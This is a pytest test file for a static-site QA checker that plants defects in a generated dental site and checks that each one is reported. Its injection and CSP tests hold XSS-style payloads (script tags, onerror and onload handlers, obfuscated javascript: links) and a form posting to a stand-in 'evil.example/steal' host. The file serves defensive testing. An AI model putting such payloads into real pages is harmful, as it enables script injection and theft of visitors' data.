"""The static QA checks: a good site passes; each planted defect is caught and explained."""

from __future__ import annotations

import base64
import os
from collections.abc import Callable

import pytest

from code24.ai.schemas import ContrastPair
from sites.generator import render_site
from sites.pipeline.qa_checks import Check, check_files
from tests.sites import fixtures

SAMPLE = fixtures.dental()
GOOD = render_site(**SAMPLE.render_args("https://brightside.code24.dev"))
PAIRS = SAMPLE.brand.contrast


def checks_of(files: dict[str, bytes], **kwargs: object) -> dict[str, Check]:
    options = {"palette_pairs": PAIRS, **kwargs}
    return {check.name: check for check in check_files(files, **options)}  # type: ignore[arg-type]


def planted(path: str, change: Callable[[str], str]) -> dict[str, bytes]:
    files = dict(GOOD)
    before = files[path].decode()
    after = change(before)
    assert after != before, "the defect was not planted"
    files[path] = after.encode()
    return files


def replace(old: str, new: str, count: int = 1) -> Callable[[str], str]:
    return lambda text: text.replace(old, new, count)


def failing(files: dict[str, bytes], **kwargs: object) -> dict[str, list[str]]:
    return {name: c.details for name, c in checks_of(files, **kwargs).items() if not c.passed}


def test_the_generated_site_passes_everything_with_a_summary_each() -> None:
    checks = checks_of(GOOD)
    assert list(checks) == [
        "HTML is well-formed",
        "Links and files resolve",
        "Images have text alternatives",
        "Photos and fonts are in place",
        "Every page has its basics",
        "Colour contrast",
        "Page weight",
        "No injected markup",
        "Nothing the security policy blocks",
    ]
    for check in checks.values():
        assert check.passed, (check.name, check.details)
        assert len(check.details) == 1 and check.details[0].endswith(".")


# --- HTML is well-formed -----------------------------------------------------------------


def test_unclosed_tag_is_caught() -> None:
    files = planted("about.html", replace("</section>", ""))
    details = failing(files)["HTML is well-formed"]
    assert any(d.startswith("about.html") and "<section>" in d for d in details), details


def test_misnested_tags_are_caught() -> None:
    files = planted(
        "index.html",
        replace(
            '<main id="main" tabindex="-1">',
            '<main id="main" tabindex="-1"><em><strong>x</em></strong>',
        ),
    )
    details = failing(files)["HTML is well-formed"]
    assert any("</em> closes <em>" in d and "<strong>" in d for d in details), details


def test_stray_end_tag_and_missing_doctype_are_caught() -> None:
    files = planted(
        "contact.html",
        lambda t: t.replace("<!doctype html>\n", "").replace("</main>", "</div></main>"),
    )
    details = failing(files)["HTML is well-formed"]
    assert "contact.html does not start with <!doctype html>." in details
    assert any("</div> has no matching <div>" in d for d in details), details


def test_duplicate_ids_and_attributes_are_caught() -> None:
    files = planted(
        "index.html",
        replace('<main id="main"', '<main id="main" class="a" class="b"><p id="main"></p'),
    )
    details = " ".join(failing(files)["HTML is well-formed"])
    assert 'the id "main" is used twice' in details
    assert "has the attribute class twice" in details


def test_optional_end_tags_and_svg_self_closing_are_fine() -> None:
    page = (
        '<!doctype html><html lang="en"><head><title>t</title></head><body>'
        "<ul><li>one<li>two</ul><p>para<div>block</div><dl><dt>a<dd>b</dl>"
        '<svg aria-hidden="true"><path d="M0 0"/><circle r="1"/></svg><br><img alt="" src="/x.svg">'
        "</body></html>"
    )
    files = {**GOOD, "extra.html": page.encode(), "x.svg": b"<svg></svg>"}
    assert "HTML is well-formed" not in failing(files)


def test_self_closing_div_is_caught() -> None:
    files = planted("about.html", replace("<main", "<div/><main"))
    assert any("<div/> does not close itself" in d for d in failing(files)["HTML is well-formed"])


# --- Links and files resolve -----------------------------------------------------------------


def test_broken_link_is_reported_in_a_sentence() -> None:
    files = planted("about.html", replace('href="/contact"', 'href="/team"'))
    assert (
        "about.html links to /team, which does not exist."
        in failing(files)["Links and files resolve"]
    )


def test_missing_stylesheet_and_favicon_are_caught() -> None:
    files = {path: body for path, body in GOOD.items() if not path.endswith((".css", ".svg"))}
    details = " ".join(failing(files)["Links and files resolve"])
    assert "links to /styles." in details
    assert "/favicon.svg, which does not exist" in details


def test_broken_in_page_anchor_is_caught() -> None:
    files = planted("index.html", replace('href="#main"', 'href="#nowhere"'))
    details = failing(files)["Links and files resolve"]
    assert any('has no element with the id "nowhere"' in d for d in details), details


def test_links_resolve_the_way_the_site_worker_serves_them() -> None:
    files = planted(
        "index.html",
        replace(
            "<main",
            '<a href="about.html">a</a><a href="/about/">b</a><a href="/contact?x=1#main">c</a>'
            '<a href="https://brightside.code24.dev/services">d</a><a href="https://other.example/x">e</a><main',
        ),
    )
    assert "Links and files resolve" not in failing(files)


def test_sitemap_entry_that_does_not_exist_is_caught() -> None:
    files = planted(
        "sitemap.xml",
        replace("</urlset>", "<url><loc>https://brightside.code24.dev/gone</loc></url></urlset>"),
    )
    assert (
        "sitemap.xml lists https://brightside.code24.dev/gone, which does not exist."
        in failing(files)["Links and files resolve"]
    )


def test_form_posting_to_a_page_is_caught() -> None:
    files = planted("contact.html", replace('action="/_forms/contact"', 'action="/contact"'))
    details = failing(files)["Links and files resolve"]
    assert any("posts to /contact, which the site does not accept" in d for d in details), details


# --- Images have text alternatives ---------------------------------------------------------------


def test_image_without_alt_is_caught() -> None:
    files = {
        **planted("about.html", replace("<main", '<img src="/logo.png"><main')),
        "logo.png": b"\x89PNG",
    }
    details = failing(files)["Images have text alternatives"]
    assert any("the image /logo.png has no alt text" in d for d in details), details


def test_unlabelled_svg_is_caught() -> None:
    files = planted(
        "index.html",
        replace(
            '<svg class="mark" viewBox="0 0 64 64" width="36" height="36" aria-hidden="true"',
            '<svg class="mark" viewBox="0 0 64 64" width="36" height="36"',
        ),
    )
    details = failing(files)["Images have text alternatives"]
    assert any("a picture (<svg>) has neither a label" in d for d in details), details


# --- Photos and fonts are in place ----------------------------------------------------------

WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(20)
AVIF = b"\x00\x00\x00\x1cftypavif" + bytes(20)


def with_photo(img: str, files: dict[str, bytes] | None = None) -> dict[str, bytes]:
    return {
        **planted("about.html", replace("<main", f"<picture>{img}</picture><main")),
        **(files or {}),
    }


def test_photos_present_and_sized_pass() -> None:
    files = with_photo(
        '<source type="image/avif" srcset="/photos/a-480-0123456789.avif 480w">'
        '<img src="/photos/a-480-0123456789.webp" srcset="/photos/a-480-0123456789.webp 480w" '
        'sizes="100vw" width="480" height="360" alt="A loaf">',
        {"photos/a-480-0123456789.webp": WEBP, "photos/a-480-0123456789.avif": AVIF},
    )
    assert failing(files) == {}


def test_image_without_width_and_height_is_caught() -> None:
    files = with_photo(
        '<img src="/photos/a-480-0123456789.webp" alt="A loaf">',
        {"photos/a-480-0123456789.webp": WEBP},
    )
    details = failing(files)["Photos and fonts are in place"]
    assert any(
        "the image /photos/a-480-0123456789.webp has no width and height" in d for d in details
    ), details


def test_a_srcset_photo_missing_from_the_files_is_caught() -> None:
    files = with_photo(
        '<source type="image/avif" srcset="/photos/a-960-0123456789.avif 960w">'
        '<img src="/photos/a-480-0123456789.webp" width="480" height="360" alt="A loaf">',
        {"photos/a-480-0123456789.webp": WEBP},
    )
    details = failing(files)["Photos and fonts are in place"]
    assert any(
        d.startswith("about.html line")
        and "shows the photo /photos/a-960-0123456789.avif, which is not among the site's files"
        in d
        for d in details
    ), details
    assert "Links and files resolve" not in failing(files)


def test_a_file_that_is_not_what_its_name_says_is_caught() -> None:
    files = with_photo(
        '<img src="/photos/a-480-0123456789.webp" width="480" height="360" alt="A loaf">',
        {"photos/a-480-0123456789.webp": b"<svg onload=alert(1)></svg>"},
    )
    details = failing(files)["Photos and fonts are in place"]
    assert "photos/a-480-0123456789.webp is not a WebP image, as its name says." in details


def test_a_missing_font_and_a_preload_without_crossorigin_are_caught() -> None:
    stylesheet = next(path for path in GOOD if path.endswith(".css"))
    files = planted(
        stylesheet,
        lambda css: (
            '@font-face{font-family:"Inter";src:url(/fonts/inter-400-0123456789.woff2)}\n' + css
        ),
    )
    files["index.html"] = (
        files["index.html"]
        .decode()
        .replace(
            "<title>",
            '<link rel="preload" href="/fonts/inter-400-0123456789.woff2" as="font" '
            'type="font/woff2"><title>',
            1,
        )
        .encode()
    )
    details = failing(files)["Photos and fonts are in place"]
    assert any(
        d.startswith(f"{stylesheet} uses the font /fonts/inter-400-0123456789.woff2, which is not")
        for d in details
    ), details
    assert any(
        "preloads /fonts/inter-400-0123456789.woff2, which is not among" in d for d in details
    )
    assert any("a font preload has no crossorigin" in d for d in details)


def test_photos_have_a_budget_of_their_own() -> None:
    big = WEBP + os.urandom(300_000)
    files = with_photo(
        '<img src="/photos/a-1600-0123456789.webp" width="1600" height="1200" alt="A loaf">',
        {"photos/a-1600-0123456789.webp": big},
    )
    assert "Page weight" not in failing(files)  # photos do not count against the page's 150 KB
    details = failing(files, image_budget_bytes=200_000)["Page weight"]
    assert details == [
        "about.html shows 300.0 KB of images (one size of each); the budget is 200 KB (show "
        "fewer photos on this page)."
    ]


# --- Every page has its basics --------------------------------------------------------------


def test_two_h1s_are_caught() -> None:
    files = planted("about.html", replace("</main>", "<h1>Another</h1></main>"))
    assert (
        "about.html has 2 <h1> headings; a page needs exactly one."
        in failing(files)["Every page has its basics"]
    )


def test_missing_title_description_canonical_and_lang_are_caught() -> None:
    files = planted(
        "services.html",
        lambda t: (
            t.replace('<html lang="en">', "<html>")
            .replace('<link rel="canonical"', '<link rel="alternate"')
            .replace('<meta name="description"', '<meta name="x-description"')
        ),
    )
    details = failing(files)["Every page has its basics"]
    assert "services.html does not say its language (<html lang>)." in details
    assert "services.html has no canonical link." in details
    assert "services.html has no meta description." in details


def test_robots_without_sitemap_and_missing_404_are_caught() -> None:
    files = {k: v for k, v in GOOD.items() if k != "404.html"}
    files["robots.txt"] = b"User-agent: *\nAllow: /\n"
    details = failing(files)["Every page has its basics"]
    assert "robots.txt does not name the sitemap (a 'Sitemap:' line)." in details
    assert any("no 404.html" in d for d in details)


# --- Colour contrast -------------------------------------------------------------------------


def test_failing_contrast_pair_is_caught_from_the_colours_not_the_claim() -> None:
    lying = ContrastPair(
        foreground="#999999", background="#ffffff", ratio=9.9, passes_aa=True, usage="muted text"
    )
    details = failing(GOOD, palette_pairs=[*PAIRS, lying])["Colour contrast"]
    assert details == [
        "Muted text (#999999 on #ffffff) has a contrast of 2.85:1; it needs at least 4.5:1."
    ]


def test_large_text_pairs_need_three_to_one() -> None:
    large = ContrastPair(
        foreground="#888888",
        background="#ffffff",
        ratio=3.5,
        passes_aa=True,
        usage="large headings",
    )
    assert "Colour contrast" not in failing(GOOD, palette_pairs=[large])


def test_stylesheet_palette_is_checked_too() -> None:
    stylesheet = next(path for path in GOOD if path.endswith(".css"))
    files = planted(stylesheet, replace("--muted:#4b626b;", "--muted:#c0c8cc;"))
    details = failing(files)["Colour contrast"]
    assert any("secondary text on the background (#c0c8cc on #ffffff)" in d for d in details)


# --- Page weight ------------------------------------------------------------------------------


def test_oversized_page_is_caught() -> None:
    noise = base64.b64encode(os.urandom(200_000)).decode()  # random text hardly compresses
    files = planted("about.html", replace("</main>", f"<p>{noise}</p></main>"))
    details = failing(files)["Page weight"]
    assert len(details) == 1 and details[0].startswith("about.html weighs")
    assert details[0].endswith("the budget is 150 KB.")


def test_heavy_stylesheet_counts_against_every_page() -> None:
    stylesheet = next(path for path in GOOD if path.endswith(".css"))
    files = dict(GOOD)
    files[stylesheet] = GOOD[stylesheet] + b"/*" + base64.b64encode(os.urandom(80_000)) + b"*/"
    details = failing(files, page_budget_bytes=60_000)["Page weight"]
    pages = [p for p in GOOD if p.endswith(".html")]
    assert len(details) == len(pages)


# --- No injected markup ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "words"),
    [
        ("<script>alert(1)</script>", "has a <script>, which is not allowed"),
        ('<img src="/x.svg" alt="" onerror="alert(1)">', "has an event handler (onerror)"),
        ('<a href="javascript:alert(1)">x</a>', "has a script link in href"),
        ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "has a script link in href"),
        ('<iframe src="/about"></iframe>', "has a frame (<iframe>)"),
        (
            '<form action="/_forms/contact">'
            '<button formaction="javascript:alert(1)">x</button></form>',
            "script link in formaction",
        ),
        ('<script type="application/ld+json">{"a": </script>', "is not valid JSON"),
    ],
)
def test_injected_markup_is_caught(markup: str, words: str) -> None:
    files = {
        **planted("index.html", replace("</main>", markup + "</main>")),
        "x.svg": b"<svg></svg>",
    }
    details = failing(files)["No injected markup"]
    assert any(words in d for d in details), details


def test_script_in_an_svg_file_is_caught() -> None:
    files = dict(GOOD)
    files["favicon.svg"] = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    )
    details = " ".join(failing(files)["No injected markup"])
    assert "favicon.svg" in details and "onload" in details and "<script>" in details


# --- Nothing the security policy blocks ----------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "words"),
    [
        ('<p style="color:red">x</p>', "has a style attribute"),
        ("<style>p{color:red}</style>", "has a <style> element"),
        (
            '<img src="https://cdn.example/x.png" alt="">',
            "loads https://cdn.example/x.png from another website",
        ),
        (
            '<link rel="stylesheet" href="https://fonts.example/css">',
            "loads https://fonts.example/css",
        ),
        (
            '<form action="https://evil.example/steal" method="post"></form>',
            "only lets forms post to the site itself",
        ),
    ],
)
def test_what_the_csp_would_block_is_caught(markup: str, words: str) -> None:
    files = planted("index.html", replace("</main>", markup + "</main>"))
    details = failing(files)["Nothing the security policy blocks"]
    assert any(words in d for d in details), details


def test_external_font_in_the_stylesheet_is_caught() -> None:
    stylesheet = next(path for path in GOOD if path.endswith(".css"))
    files = planted(stylesheet, lambda css: "@import url(https://fonts.example/x.css);\n" + css)
    details = failing(files)["Nothing the security policy blocks"]
    assert any("loads https://fonts.example/x.css from another website" in d for d in details)
